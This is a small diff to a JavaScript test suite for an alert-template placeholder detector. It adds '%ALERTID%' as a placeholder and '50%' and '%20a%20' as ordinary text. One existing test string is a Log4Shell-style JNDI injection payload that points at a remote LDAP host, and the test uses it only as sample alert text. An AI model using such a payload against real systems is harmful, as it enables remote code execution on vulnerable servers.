@@ -78,6 +78,7 @@ test('isPlaceholder recognizes unfilled template variables, and no other texts w
     ' {{alert_name}} ',
     '*UNKNOWN*',
     '##ALERTID##',
+    '%ALERTID%',
     '$service.name$',
     '$SERVICEDESC$',
     '%{[event][id]}',
@@ -91,6 +92,8 @@ test('isPlaceholder recognizes unfilled template variables, and no other texts w
   for (const text of unfilled) expect(isPlaceholder(text)).toBe(true)
   const texts = [
     'C$',
+    '50%',
+    '%20a%20',
     // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack in an alert.
     '${jndi:ldap://192.0.2.4/a}',
     '$5',
